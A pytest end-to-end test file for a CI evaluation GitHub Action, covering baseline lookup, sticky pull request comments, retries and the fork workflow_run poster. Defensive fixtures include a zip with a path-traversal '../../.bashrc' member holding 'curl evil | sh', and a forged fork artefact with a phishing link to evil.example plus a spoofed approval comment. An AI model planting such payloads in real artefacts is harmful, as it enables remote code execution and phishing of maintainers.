"""`ci-eval action` end to end: a real process with a real event payload, real
GITHUB_OUTPUT and GITHUB_STEP_SUMMARY files, a small project whose retriever is a Python
callable, and the loopback GitHub of tests/support/github_standin/, which validates every request and
response against GitHub's OpenAPI description. Baselines are real artefacts (`ci-eval run`
or a push job of the action itself), zipped the way upload-artifact zips them."""

from __future__ import annotations

import json
from dataclasses import dataclass
from datetime import timedelta

import pytest
from action_harness import (
    ANSWERABLE,
    BASE,
    COMMENTS,
    COMPARED,
    CONFIG,
    FORK,
    FORK_HEAD,
    FORK_PR,
    GOLD,
    HEAD,
    MARKER,
    NEWER,
    OLDER,
    PR,
    REPO,
    RUNS,
    STRICT_HIT,
    THREE_DAYS,
    TWO_HOURS,
    Job,
    add_push_run,
    artefact_with_sha,
    baseline_line,
    bodies,
    calls,
    line_of,
    pr_event,
    push_event,
    run_action,
    run_url,
    verdict_line,
    workflow_run_event,
)
from github_standin import GitHubStandIn, fake_sha
from run_files import as_objects, read_run

from ci_eval.github.artifact_zip import build_zip

# -- pull_request: finding the baseline ----------------------------------------------------


def test_first_run_says_plainly_that_there_is_no_baseline(gh, checkout, tmp_path):
    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())

    assert job.code == 0, job.stderr
    assert calls(gh) == [("GET", RUNS), ("GET", COMMENTS), ("POST", COMMENTS)]
    assert gh.calls("actions/list-workflow-runs")[0].query == {
        "branch": "main", "event": "push", "status": "success", "per_page": "100"}
    [body] = bodies(gh)
    assert body.splitlines()[0] == MARKER
    assert verdict_line(body) == (
        "### ✅ No baseline to compare against, so nothing was compared; this run alone: "
        "hit@1 1.000, and the floors pass.")
    assert baseline_line(body) == (
        "**Baseline:** none: no successful push run of this workflow on main was found; this is "
        "the first run or main was never evaluated. Nothing to compare against; only floors and "
        "errors were checked.")
    [comment] = gh.comments_on(PR)
    assert job.outputs == {
        "verdict": "pass",
        "artefact": str(job.bundle / "ci-eval-run.json"),
        "comment-url": f"https://github.com/{REPO}/pull/{PR}#issuecomment-{comment['id']}",
        "questions": str(len(ANSWERABLE)),
        "stale-ids": "1",
        "failure-matrix": "",  # no [answers] in this config
        "hit-at-k": "1.0000",
        "recall-at-k": "1.0000",
        "mrr": "1.0000",
        "ndcg-at-k": "1.0000",
        "hit-at-3k": "1.0000",
    }
    assert verdict_line(job.summary) == verdict_line(body)
    assert baseline_line(job.summary) == baseline_line(body)
    head = read_run(job.bundle / "ci-eval-run.json")
    # The PR's head commit is recorded, not the merge commit GITHUB_SHA names.
    assert head["git"]["sha"] == HEAD and head["history"] == []
    assert sorted(p.name for p in job.bundle.iterdir()) == [
        "ci-eval-run.json", "comment.md", "pr.json", "scores.svg", "summary.md", "trend.svg"]
    assert gh.blob_requests == []


def test_the_base_commits_own_run_is_the_baseline(gh, checkout, tmp_path, base_artefact, base_zip):
    newer_zip = build_zip({"ci-eval-run.json": artefact_with_sha(base_artefact, NEWER)})
    add_push_run(gh, NEWER, newer_zip, timedelta(hours=1))
    exact, artifact = add_push_run(gh, BASE, base_zip, TWO_HOURS)
    add_push_run(gh, OLDER, newer_zip, THREE_DAYS)

    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())

    assert job.code == 0, job.stderr
    assert calls(gh) == [
        ("GET", RUNS),
        ("GET", f"/actions/runs/{exact}/artifacts"),
        ("GET", f"/actions/artifacts/{artifact}/zip"),
        ("GET", COMMENTS),
        ("POST", COMMENTS),
    ]
    [blob] = gh.blob_requests
    assert blob.path == f"/artifacts/{artifact}/ci-eval.zip" and "authorization" not in blob.headers
    [body] = bodies(gh)
    assert body.splitlines()[0] == MARKER
    assert verdict_line(body) == (
        f"### ✅ No change: every metric of all {len(COMPARED)} compared questions is as before "
        "(hit@1 1.000).")
    assert baseline_line(body) == (
        f"**Baseline:** the push run of base commit {BASE[:7]} on main (2 hours old) "
        f"([run]({run_url(exact)})); index `idx-2`; {len(COMPARED)} questions compared.")
    head = read_run(job.bundle / "ci-eval-run.json")
    assert [entry["sha"] for entry in head["history"]] == [BASE]
    # The bundle carries no copy of the base: the poster looks the baseline up itself.
    assert not (job.bundle / "ci-eval-base.json").exists()
    assert job.outputs["verdict"] == "pass"


def test_fallback_baseline_names_its_commit_and_age(gh, checkout, tmp_path, base_artefact):
    older, artifact = add_push_run(
        gh, OLDER, build_zip({"ci-eval-run.json": artefact_with_sha(base_artefact, OLDER)}),
        THREE_DAYS)

    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())

    assert job.code == 0, job.stderr
    assert calls(gh) == [
        ("GET", RUNS),
        ("GET", f"/actions/runs/{older}/artifacts"),
        ("GET", f"/actions/artifacts/{artifact}/zip"),
        ("GET", COMMENTS),
        ("POST", COMMENTS),
    ]
    [body] = bodies(gh)
    assert baseline_line(body) == (
        f"**Baseline:** fallback: base commit {BASE[:7]} was never evaluated by a push run, so "
        f"the newest push run on main is used instead: {OLDER[:7]}, 3 days old "
        f"([run]({run_url(older)})); index `idx-2`; {len(COMPARED)} questions compared.")
    assert baseline_line(job.summary) == baseline_line(body)


def test_expired_and_vanished_artefacts_are_skipped(gh, checkout, tmp_path, base_zip):
    # The base commit's artifact is listed as live but is gone by the time it is fetched.
    exact, vanished = add_push_run(gh, BASE, base_zip, TWO_HOURS)
    gh.change_artifact(vanished, expired=True)
    gh.mutate_next("actions/list-workflow-run-artifacts", lambda listing: {
        **listing, "artifacts": [{**a, "expired": False} for a in listing["artifacts"]]})
    newer, expired = add_push_run(gh, NEWER, base_zip, timedelta(days=1, hours=1))
    gh.change_artifact(expired, expired=True)
    older, live = add_push_run(gh, OLDER, base_zip, THREE_DAYS)

    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())

    assert job.code == 0, job.stderr
    assert calls(gh) == [
        ("GET", RUNS),
        ("GET", f"/actions/runs/{exact}/artifacts"),
        ("GET", f"/actions/artifacts/{vanished}/zip"),  # 410 Gone
        ("GET", f"/actions/runs/{newer}/artifacts"),  # listed as expired: not fetched
        ("GET", f"/actions/runs/{older}/artifacts"),
        ("GET", f"/actions/artifacts/{live}/zip"),
        ("GET", COMMENTS),
        ("POST", COMMENTS),
    ]
    assert len(gh.blob_requests) == 1
    [body] = bodies(gh)
    assert baseline_line(body).startswith(
        f"**Baseline:** fallback: base commit {BASE[:7]} has no run with an unexpired artefact, "
        f"so the newest push run on main is used instead: {OLDER[:7]}, 3 days old ")


def test_hostile_and_oversized_baselines_are_skipped_with_a_warning(gh, checkout, tmp_path,
                                                                   base_artefact, base_zip):
    hostile = build_zip({"ci-eval-run.json": base_artefact, "../../.bashrc": b"curl evil | sh"})
    exact, bad = add_push_run(gh, BASE, hostile, TWO_HOURS)
    newer, huge = add_push_run(gh, NEWER, base_zip, timedelta(days=1))
    gh.change_artifact(huge, listed_size=80 * 1024 * 1024)  # not worth downloading
    _, good = add_push_run(gh, OLDER, base_zip, THREE_DAYS)

    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())

    assert job.code == 0, job.stderr
    warnings = [line for line in job.stderr.splitlines() if "warning" in line]
    assert warnings == [
        (f"ci-eval: warning: skipping the baseline from run {exact}: artifact ci-eval (id {bad})"
         f" of run {exact}: refusing a zip with a path-traversal member name '../../.bashrc'"),
        (f"ci-eval: warning: skipping the baseline from run {newer}: artifact ci-eval (id {huge})"
         f" of run {newer}: the zip is 83886080 bytes, over the 67108864-byte limit"),
    ]
    downloads = [path for _, path in calls(gh) if path.endswith("/zip")]
    assert downloads == [f"/actions/artifacts/{bad}/zip", f"/actions/artifacts/{good}/zip"]
    assert baseline_line(bodies(gh)[0]).startswith(
        f"**Baseline:** fallback: base commit {BASE[:7]} has no run with an unexpired artefact, "
        f"so the newest push run on main is used instead: {OLDER[:7]}")


def test_a_forks_run_on_a_branch_named_like_the_base_is_never_used(gh, checkout, tmp_path,
                                                                   base_artefact, base_zip):
    # Newest, on "main", even at the base commit: but pushed in someone's fork.
    poisoned = build_zip({"ci-eval-run.json": artefact_with_sha(base_artefact, BASE)})
    fork_run, _ = add_push_run(gh, BASE, poisoned, timedelta(hours=1), head_repo=FORK)
    older, _ = add_push_run(gh, OLDER, base_zip, THREE_DAYS)

    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())

    assert job.code == 0, job.stderr
    assert ("GET", f"/actions/runs/{fork_run}/artifacts") not in calls(gh)
    assert ("GET", f"/actions/runs/{older}/artifacts") in calls(gh)
    assert f"instead: {OLDER[:7]}, 3 days old" in baseline_line(bodies(gh)[0])


def test_only_a_forks_run_means_no_baseline_and_says_so(gh, checkout, tmp_path, base_zip):
    add_push_run(gh, BASE, base_zip, timedelta(hours=1), head_repo=FORK)

    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())

    assert job.code == 0, job.stderr
    assert calls(gh) == [("GET", RUNS), ("GET", COMMENTS), ("POST", COMMENTS)]
    assert baseline_line(bodies(gh)[0]).startswith(
        "**Baseline:** none: no successful push run of this workflow on main was found; this is "
        "the first run or main was never evaluated (ignored runs from other repositories: "
        f"{FORK})")


def test_push_records_the_baseline_a_later_pull_request_uses(gh, checkout, tmp_path,
                                                             base_artefact):
    older, older_artifact = add_push_run(
        gh, OLDER, build_zip({"ci-eval-run.json": artefact_with_sha(base_artefact, OLDER)}),
        THREE_DAYS)

    push = run_action(gh, tmp_path, checkout, "push", push_event(BASE), sha=BASE,
                      ref="refs/heads/main")

    assert push.code == 0, push.stderr
    # No comment; only the branch's previous artefact is read, for its history.
    assert calls(gh) == [("GET", RUNS), ("GET", f"/actions/runs/{older}/artifacts"),
                         ("GET", f"/actions/artifacts/{older_artifact}/zip")]
    artefact = read_run(push.bundle / "ci-eval-run.json")
    assert artefact["git"]["sha"] == BASE and artefact["git"]["ref"] == "refs/heads/main"
    assert [entry["sha"] for entry in artefact["history"]] == [OLDER]
    assert sorted(p.name for p in push.bundle.iterdir()) == [
        "ci-eval-questions.json", "ci-eval-run.json", "comment.md", "scores.svg", "summary.md", "trend.svg"]
    assert push.outputs["verdict"] == "pass" and push.outputs["comment-url"] == ""
    assert push.outputs["artefact"] == str(push.bundle / "ci-eval-run.json")
    assert "this run records the baseline for later pull requests" in baseline_line(push.summary)

    # upload-artifact stores the folder; a later pull request on that commit finds it.
    run_id, _ = add_push_run(gh, BASE, push.bundle_zip(), TWO_HOURS)
    gh.requests.clear()
    pr = run_action(gh, tmp_path, checkout, "pull_request", pr_event())

    assert pr.code == 0, pr.stderr
    assert calls(gh)[:2] == [("GET", RUNS), ("GET", f"/actions/runs/{run_id}/artifacts")]
    body = bodies(gh)[0]
    assert baseline_line(body).startswith(
        f"**Baseline:** the push run of base commit {BASE[:7]} on main (2 hours old)")
    assert verdict_line(body).startswith("### ✅ No change")
    # The trend: OLDER (carried by the push run), BASE (the baseline), this run.
    assert "**Trend** hit@1 over the last 3 runs (this one last): ▄▄▄ 1.000 → 1.000" in body
    head = read_run(pr.bundle / "ci-eval-run.json")
    assert [entry["sha"] for entry in head["history"]] == [OLDER, BASE]


def test_a_push_job_survives_github_failing_to_list_its_history(gh, checkout, tmp_path):
    gh.fail("actions/list-workflow-runs", 403, message="Resource not accessible by integration")

    push = run_action(gh, tmp_path, checkout, "push", push_event(BASE), sha=BASE,
                      ref="refs/heads/main")

    assert push.code == 0, push.stderr
    assert "warning: the branch's previous artefact was not read, so the trend starts over" in (
        push.stderr)
    assert "add `actions: read` under `permissions:`" in push.stderr
    assert read_run(push.bundle / "ci-eval-run.json")["history"] == []
    assert push.outputs["verdict"] == "pass"


def test_the_demo_compares_with_its_built_in_baseline_when_none_is_stored(gh, tmp_path):
    job = run_action(gh, tmp_path, tmp_path, "pull_request", pr_event(), config="demo")

    # The demo's change is built to regress; its gate says so (the numbers depend on the
    # Python version, whose documentation is the corpus).
    assert (job.code, job.outputs["verdict"]) in ((0, "pass"), (1, "fail")), job.stderr
    assert calls(gh) == [("GET", RUNS), ("GET", COMMENTS), ("POST", COMMENTS)]
    [body] = bodies(gh)
    assert body.splitlines()[0] == MARKER
    assert baseline_line(body).startswith(
        "**Baseline:** no successful push run of this workflow on main was found; this is the "
        "first run or main was never evaluated; the demo compares with its built-in baseline "
        "configuration instead; index `pydoc-topics-")
    # The demo's head also re-ingests one page: its index callable and corpus change too.
    assert "`retriever.params.stopwords` `true` → `false`" in body.split("**Changed:**", 1)[1].splitlines()[0]
    assert job.stderr.rstrip().splitlines()[-1] == "ci-eval: " + verdict_line(body)[4:]


# -- pull_request: the one sticky comment --------------------------------------------------


def test_an_existing_sticky_comment_is_updated_not_duplicated(gh, checkout, tmp_path):
    ours = gh.add_comment(PR, f"{MARKER}\n### ✅ an older report")

    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())

    assert job.code == 0, job.stderr
    assert calls(gh) == [("GET", RUNS), ("GET", COMMENTS), ("PATCH", f"/issues/comments/{ours}")]
    [comment] = gh.comments_on(PR)
    assert comment["id"] == ours and verdict_line(comment["body"]).startswith("### ✅ No baseline")
    assert job.outputs["comment-url"].endswith(f"#issuecomment-{ours}")


def test_someone_elses_comment_quoting_the_marker_is_left_alone(gh, checkout, tmp_path):
    quoted = f"{MARKER}\n> ### ❌ Below the floor\nWhy did this fail? @octo-bot"
    theirs = gh.add_comment(PR, quoted, user_login="octo-dev")

    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())

    assert job.code == 0, job.stderr
    assert calls(gh) == [("GET", RUNS), ("GET", COMMENTS), ("POST", COMMENTS)]
    first, ours = gh.comments_on(PR)
    assert (first["id"], first["body"], first["login"]) == (theirs, quoted, "octo-dev")
    assert ours["login"] == gh.bot_login and ours["body"].startswith(MARKER + "\n### ✅")


def test_duplicate_sticky_comments_are_consolidated(gh, checkout, tmp_path):
    other_bot = gh.add_comment(PR, "Thanks for the pull request! A maintainer will look soon.")
    keep = gh.add_comment(PR, f"{MARKER}\nfirst run's report")
    extra = gh.add_comment(PR, f"{MARKER}\na concurrent run's report")

    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())

    assert job.code == 0, job.stderr
    assert calls(gh) == [
        ("GET", RUNS),
        ("GET", COMMENTS),
        ("PATCH", f"/issues/comments/{keep}"),
        ("DELETE", f"/issues/comments/{extra}"),
    ]
    assert [c["id"] for c in gh.comments_on(PR)] == [other_bot, keep]
    assert job.outputs["comment-url"].endswith(f"#issuecomment-{keep}")


@pytest.mark.parametrize(("config", "code", "verdict"), [
    ("ci-eval.toml", 0, "pass"),
    ("strict.toml", 1, "fail"),
])
def test_a_read_only_token_still_evaluates_and_the_gate_alone_sets_the_exit_code(
        gh, checkout, tmp_path, config, code, verdict):
    gh.refuse_writes()  # no `pull-requests: write`: every write answers 403

    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event(), config=config)

    assert job.code == code, job.stderr
    assert calls(gh) == [("GET", RUNS), ("GET", COMMENTS), ("POST", COMMENTS)]  # a 403 is final
    assert bodies(gh) == []
    assert (
        "ci-eval: warning: the comment was not posted: the token may not do this: commenting on "
        "pull request #7 (HTTP 403: Resource not accessible by integration); add "
        "`pull-requests: write` under `permissions:` in the workflow"
    ) in job.stderr
    assert job.outputs["verdict"] == verdict and job.outputs["comment-url"] == ""
    comment = (job.bundle / "comment.md").read_text()
    assert comment.splitlines()[0] == MARKER
    assert verdict_line(job.summary) == verdict_line(comment)
    # The poster posts for this same-repository PR too, because this job could not.
    assert json.loads((job.bundle / "pr.json").read_text()) == {
        "number": PR, "head_sha": HEAD, "base_sha": BASE, "comment_posted": False}


def test_server_errors_are_retried_until_github_answers(gh, checkout, tmp_path, base_zip):
    exact, artifact = add_push_run(gh, BASE, base_zip, TWO_HOURS)
    gh.fail("actions/list-workflow-runs", 502)
    gh.fail("actions/download-artifact", 500)
    gh.fail_blob(503)
    gh.fail("issues/create-comment", 503, times=2)

    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())

    assert job.code == 0, job.stderr
    zip_path = f"/actions/artifacts/{artifact}/zip"
    assert calls(gh) == [
        ("GET", RUNS), ("GET", RUNS),
        ("GET", f"/actions/runs/{exact}/artifacts"),
        ("GET", zip_path), ("GET", zip_path),  # a 500, then the redirect to a failing blob host
        ("GET", zip_path),  # a fresh redirect
        ("GET", COMMENTS),
        ("POST", COMMENTS), ("POST", COMMENTS), ("POST", COMMENTS),
    ]
    assert len(gh.blob_requests) == 2
    assert len(bodies(gh)) == 1 and baseline_line(bodies(gh)[0]).startswith(
        f"**Baseline:** the push run of base commit {BASE[:7]}")


def test_github_failing_for_good_is_exit_5_and_outputs_and_comment_say_the_same(gh, checkout, tmp_path):
    gh.fail("actions/list-workflow-runs", 503, times=20)

    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())

    assert job.code == 5
    assert len(gh.calls("actions/list-workflow-runs")) == 5  # the first try and 4 retries
    errors = [line for line in job.stderr.splitlines() if line.startswith("ci-eval: error")]
    assert errors == [("ci-eval: error: no baseline: GitHub failed while the baseline was looked up (GitHub "
                       "kept failing while listing runs of workflow ci-eval.yml (HTTP 503) after 5 "
                       "attempts)")]
    # Nothing is lost: the comment says why there is no comparison, summary and bundle exist.
    [body] = bodies(gh)
    assert baseline_line(body).startswith("**Baseline:** none: GitHub failed while the baseline was looked up")
    assert verdict_line(job.summary) == verdict_line(body)
    assert (job.bundle / "ci-eval-run.json").is_file()
    # Exit 5, the verdict output and the comment agree: nothing reads as a pass.
    assert job.outputs["verdict"] == "error"
    assert verdict_line(body).startswith("### ❌ Not compared: GitHub failed while the baseline was looked up")
    assert "✅" not in verdict_line(body)
    assert job.gate.returncode == 5


def test_pagination_finds_the_base_run_and_our_comment_on_later_pages(gh, checkout, tmp_path,
                                                                      base_zip):
    _, artifact = add_push_run(gh, BASE, base_zip, THREE_DAYS)
    for i in range(130):  # main moved on 130 times since the PR branched off
        add_push_run(gh, fake_sha(f"main-{i}"), None, timedelta(minutes=i))
    for i in range(120):
        gh.add_comment(PR, f"review comment {i}", user_login="octo-dev")
    ours = gh.add_comment(PR, f"{MARKER}\nthe previous report")
    for i in range(30):
        gh.add_comment(PR, f"later comment {i}", user_login="octo-dev")

    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event())

    assert job.code == 0, job.stderr
    comment_pages = [c.query.get("page") for c in gh.calls("issues/list-comments")]
    assert comment_pages == [None, "2"]
    # One page of runs, then the base commit's run asked for by SHA.
    assert [c.query for c in gh.calls("actions/list-workflow-runs")] == [
        {"branch": "main", "event": "push", "status": "success", "per_page": "100"},
        {"branch": "main", "event": "push", "status": "success", "head_sha": BASE,
         "per_page": "100"},
    ]
    assert ("GET", f"/actions/artifacts/{artifact}/zip") in calls(gh)
    assert calls(gh)[-1] == ("PATCH", f"/issues/comments/{ours}")
    assert ("POST", COMMENTS) not in calls(gh)
    body = gh.comment(ours)["body"]
    assert baseline_line(body).startswith(
        f"**Baseline:** the push run of base commit {BASE[:7]} on main (3 days old)")


def test_a_failing_gate_exits_1_after_the_comment_and_outputs(gh, checkout, tmp_path):
    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event(), config="strict.toml")

    assert job.code == 1
    assert calls(gh) == [("GET", RUNS), ("GET", COMMENTS), ("POST", COMMENTS)]
    [body] = bodies(gh)
    assert body.splitlines()[0] == MARKER
    assert verdict_line(body) == f"### ❌ Below the floor: hit@1 is {STRICT_HIT:.3f} (floor 0.900)."
    assert job.outputs["verdict"] == "fail" and job.outputs["hit-at-k"] == f"{STRICT_HIT:.4f}"
    assert job.outputs["comment-url"].startswith(f"https://github.com/{REPO}/pull/{PR}#")
    assert verdict_line(job.summary) == verdict_line(body)
    assert job.stderr.rstrip().splitlines()[-1] == (
        f"ci-eval: ❌ Below the floor: hit@1 is {STRICT_HIT:.3f} (floor 0.900).")


@pytest.mark.parametrize(("mode", "existing", "expected"), [
    ("off", False, []),
    # The results match the baseline: nothing new to say, so no new comment...
    ("on-change", False, [("GET", COMMENTS)]),
    # ...but a comment already there is kept current.
    ("on-change", True, [("GET", COMMENTS), ("PATCH", "/issues/comments/{id}")]),
    ("always", False, [("GET", COMMENTS), ("POST", COMMENTS)]),
])
def test_comment_modes(gh, checkout, tmp_path, base_zip, mode, existing, expected):
    exact, artifact = add_push_run(gh, BASE, base_zip, TWO_HOURS)
    comment_id = gh.add_comment(PR, f"{MARKER}\nstale report") if existing else None

    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event(), comment=mode)

    assert job.code == 0, job.stderr
    lookup = [("GET", RUNS), ("GET", f"/actions/runs/{exact}/artifacts"),
              ("GET", f"/actions/artifacts/{artifact}/zip")]
    assert calls(gh) == lookup + [(m, p.format(id=comment_id)) for m, p in expected]
    assert len(bodies(gh)) == (0 if mode != "always" and not existing else 1)
    assert verdict_line(job.summary).startswith("### ✅ No change")
    assert (job.bundle / "comment.md").is_file()


def test_stale_gold_ids_are_annotated_on_their_gold_set_lines(gh, checkout, tmp_path):
    job = run_action(gh, tmp_path, checkout, "pull_request", pr_event(), comment="off")

    assert job.code == 0, job.stderr
    assert job.annotations() == [
        (f"::warning file=eval/gold.json,line={line_of(GOLD, 'q2')},title=ci-eval%3A q2::"
         "stale gold id(s) not in the current index: retired")]


# -- fork pull requests and the workflow_run poster ----------------------------------------


@dataclass
class ForkJob:
    job: Job
    calls: list[tuple[str, str]]


@pytest.fixture(scope="module")
def fork_job(checkout, base_zip, tmp_path_factory) -> ForkJob:
    """A fork's pull_request job: a read-only token, so it comments nothing itself."""
    with GitHubStandIn(REPO) as server:
        server.refuse_writes()
        server.add_pull(FORK_PR, head_sha=FORK_HEAD, base_sha=BASE, head_repo=FORK)
        add_push_run(server, BASE, base_zip, TWO_HOURS)
        job = run_action(server, tmp_path_factory.mktemp("fork"), checkout, "pull_request",
                         pr_event(FORK_PR, FORK_HEAD, BASE, FORK), ref=f"refs/pull/{FORK_PR}/merge")
        server.assert_clean()
        return ForkJob(job, calls(server))


def test_a_fork_pull_request_leaves_its_comment_in_the_artifact(fork_job):
    job = fork_job.job
    assert job.code == 0, job.stderr
    assert [path for method, path in fork_job.calls if "/issues/" in path] == []
    assert "fork pull request: the comment is in the artifact for the workflow_run poster" in job.stderr
    assert sorted(p.name for p in job.bundle.iterdir()) == [
        "ci-eval-run.json", "comment.md", "pr.json", "scores.svg", "summary.md", "trend.svg"]
    pr = json.loads((job.bundle / "pr.json").read_text())
    assert pr == {"number": FORK_PR, "head_sha": FORK_HEAD, "base_sha": BASE, "comment_posted": False}
    assert (job.bundle / "comment.md").read_text().splitlines()[0] == MARKER
    assert job.outputs["verdict"] == "pass" and job.outputs["comment-url"] == ""
    assert verdict_line(job.summary).startswith("### ✅ No change")


def _fork_pr_run(gh: GitHubStandIn, bundle: bytes, pr_head: str = FORK_HEAD) -> tuple[int, int]:
    gh.add_pull(FORK_PR, head_sha=pr_head, base_sha=BASE, head_repo=FORK)
    # Runs of fork pull requests list no pull requests: the poster must use pr.json.
    run_id = gh.add_run(FORK_HEAD, head_branch="main", event="pull_request", head_repo=FORK,
                        conclusion="success")
    return run_id, gh.add_artifact(run_id, bundle)


def test_the_workflow_run_poster_posts_the_fork_runs_comment(gh, fork_job, tmp_path, base_zip,
                                                             checkout):
    exact, base_artifact = add_push_run(gh, BASE, base_zip, TWO_HOURS)
    run_id, artifact = _fork_pr_run(gh, fork_job.job.bundle_zip())

    # The poster's workspace is the default branch's checkout: its config sets the gate.
    job = run_action(gh, tmp_path, checkout, "workflow_run", workflow_run_event(run_id),
                     sha=BASE, ref="refs/heads/main", mode="comment")

    assert job.code == 0, job.stderr
    assert calls(gh) == [
        ("GET", f"/actions/runs/{run_id}"),
        ("GET", f"/actions/runs/{run_id}/artifacts"),
        ("GET", f"/actions/artifacts/{artifact}/zip"),
        ("GET", f"/pulls/{FORK_PR}"),
        # The baseline is looked up here, from the base commit the API names.
        ("GET", RUNS),
        ("GET", f"/actions/runs/{exact}/artifacts"),
        ("GET", f"/actions/artifacts/{base_artifact}/zip"),
        ("GET", f"/issues/{FORK_PR}/comments"),
        ("POST", f"/issues/{FORK_PR}/comments"),
    ]
    [body] = bodies(gh, FORK_PR)
    assert body.splitlines()[0] == MARKER
    # The same report the fork's own run rendered, provenance line included.
    fork_comment = (fork_job.job.bundle / "comment.md").read_text()
    assert verdict_line(body) == verdict_line(fork_comment)
    assert baseline_line(body) == baseline_line(fork_comment)
    assert baseline_line(body).startswith(
        f"**Baseline:** the push run of base commit {BASE[:7]} on main (2 hours old) ([run](")
    [comment] = gh.comments_on(FORK_PR)
    assert job.outputs == {
        "comment-url": f"https://github.com/{REPO}/pull/{FORK_PR}#issuecomment-{comment['id']}",
        "verdict": "pass",
    }
    assert bodies(gh, PR) == []


def test_the_poster_renders_again_and_posts_nothing_the_fork_wrote_itself(gh, fork_job, tmp_path,
                                                                        checkout):
    members = {p.name: p.read_bytes() for p in sorted(fork_job.job.bundle.iterdir())}
    members["comment.md"] = f"{MARKER}\n### ✅ LGTM, merge now @everyone".encode()
    pr = json.loads(members["pr.json"])
    pr["baseline"] = {"kind": "exact", "url": "https://evil.example/actions/runs/1",
                      "description": "baseline: [verify your account](https://evil.example/login)"}
    members["pr.json"] = json.dumps(pr).encode()
    run_id, _ = _fork_pr_run(gh, build_zip(members))

    job = run_action(gh, tmp_path, checkout, "workflow_run", workflow_run_event(run_id),
                     sha=BASE, ref="refs/heads/main", mode="comment")

    assert job.code == 0, job.stderr
    [body] = bodies(gh, FORK_PR)
    assert "LGTM" not in body and "@everyone" not in body
    assert "evil.example" not in body and "verify your account" not in body
    assert baseline_line(body).startswith("**Baseline:** none: no successful push run")


def test_the_poster_posts_failed_for_a_fork_run_that_failed_in_a_repeated_pass(gh, fork_job, tmp_path, checkout,
                                                                              base_zip):
    # The fork's run answered every question once, then failed on one when asked again (run
    # --repeat 2, say): a failed run by the one definition, whoever reads it.
    add_push_run(gh, BASE, base_zip, TWO_HOURS)
    members = {p.name: p.read_bytes() for p in sorted(fork_job.job.bundle.iterdir())}
    run = json.loads(members["ci-eval-run.json"])
    failure = "retriever raised ConnectionError: the index went away"
    run["repeat"] = {"passes": 2, "questions": len(run["questions"]), "changed": 0, "flapping": [],
                     "failed": {"questions": 1, "first": ["q2", failure]}}
    members["ci-eval-run.json"] = json.dumps(run, sort_keys=True).encode()
    run_id, _ = _fork_pr_run(gh, build_zip(members))

    job = run_action(gh, tmp_path, checkout, "workflow_run", workflow_run_event(run_id),
                     sha=BASE, ref="refs/heads/main", mode="comment")

    [body] = bodies(gh, FORK_PR)
    assert verdict_line(body) == (f"### ❌ The retriever failed on 1 question(s) in a repeated pass (run --repeat); "
                                  f"first: q2: {failure} (fail closed).")
    assert "Gate: ❌ failed" in body and "✅" not in verdict_line(body)
    assert job.outputs["verdict"] == "error" and job.code == 4 and job.gate.returncode == 4
    assert f"ci-eval: error: run {run_id}: the retriever failed on 1 question(s) in a repeated pass" in job.stderr


def test_a_poster_whose_event_names_no_workflow_file_posts_nothing(gh, fork_job, tmp_path, checkout):
    run_id, _ = _fork_pr_run(gh, fork_job.job.bundle_zip())
    event = workflow_run_event(run_id)
    del event["workflow_run"]["path"]

    job = run_action(gh, tmp_path, checkout, "workflow_run", event, sha=BASE, ref="refs/heads/main", mode="comment")

    assert job.code == 2
    assert job.stderr.splitlines()[-1] == (
        f"ci-eval: error: {tmp_path}/job0/event.json:workflow_run.path: the workflow_run event names no workflow "
        "file, so the pull request's baseline cannot be looked up: no comment is posted")
    assert gh.requests == [] and bodies(gh, FORK_PR) == [] and job.outputs == {}


def _trend_line(markdown: str) -> str:
    return next(line for line in markdown.splitlines() if line.startswith("**Trend**"))


def test_the_poster_draws_the_trend_from_the_baseline_not_the_forks_history(gh, fork_job, tmp_path,
                                                                           checkout, base_zip, base_artefact):
    # The fork's artefact carries a forged history: a long, steady climb to this run.
    def forge(head):
        metric = head["metrics"][0]
        head["history"] = [{"sha": f"{i:040x}", "created_at": "2026-01-01T00:00:00Z",
                            "index_version": None, "means": {metric: i / 10}} for i in range(8)]

    add_push_run(gh, BASE, base_zip, TWO_HOURS)
    run_id, _ = _fork_pr_run(gh, _hostile_fork_bundle(fork_job, forge))

    job = run_action(gh, tmp_path, checkout, "workflow_run", workflow_run_event(run_id),
                     sha=BASE, ref="refs/heads/main", mode="comment")

    assert job.code == 0, job.stderr
    [body] = bodies(gh, FORK_PR)
    # the trend of the fork's own job, which carried the baseline's history forward
    fork_comment = (fork_job.job.bundle / "comment.md").read_text()
    base_history = json.loads(base_artefact)["history"]
    assert f"over the last {len(base_history) + 2} runs" in _trend_line(fork_comment)
    assert _trend_line(body) == _trend_line(fork_comment)
    assert "over the last 9 runs" not in body and "0.000 →" not in _trend_line(body)


def test_the_poster_applies_the_default_branchs_gate_not_the_forks(gh, fork_job, tmp_path,
                                                                  checkout, base_zip):
    # The default branch's checkout (the poster's workspace) allows no stale gold id...
    default_branch = tmp_path / "default-branch"
    default_branch.mkdir()
    (default_branch / "ci-eval.toml").write_text(
        CONFIG.format(gold="eval/gold.json", gate="[gate]\nmax_stale = 0\n"))
    # ...and the fork's artefact records a config that empties its gate.
    members = {p.name: p.read_bytes() for p in sorted(fork_job.job.bundle.iterdir())}
    head = json.loads(members["ci-eval-run.json"])
    head["config"]["gate"] = {}
    members["ci-eval-run.json"] = json.dumps(head).encode()
    add_push_run(gh, BASE, base_zip, TWO_HOURS)
    run_id, _ = _fork_pr_run(gh, build_zip(members))

    job = run_action(gh, tmp_path, default_branch, "workflow_run", workflow_run_event(run_id),
                     sha=BASE, ref="refs/heads/main", mode="comment")

    assert job.code == 1, job.stderr
    [body] = bodies(gh, FORK_PR)
    stale = sum(1 for q in GOLD["questions"] if "retired" in q["gold"])
    assert verdict_line(body).startswith(f"### ❌ {stale} question has gold ids missing from index")
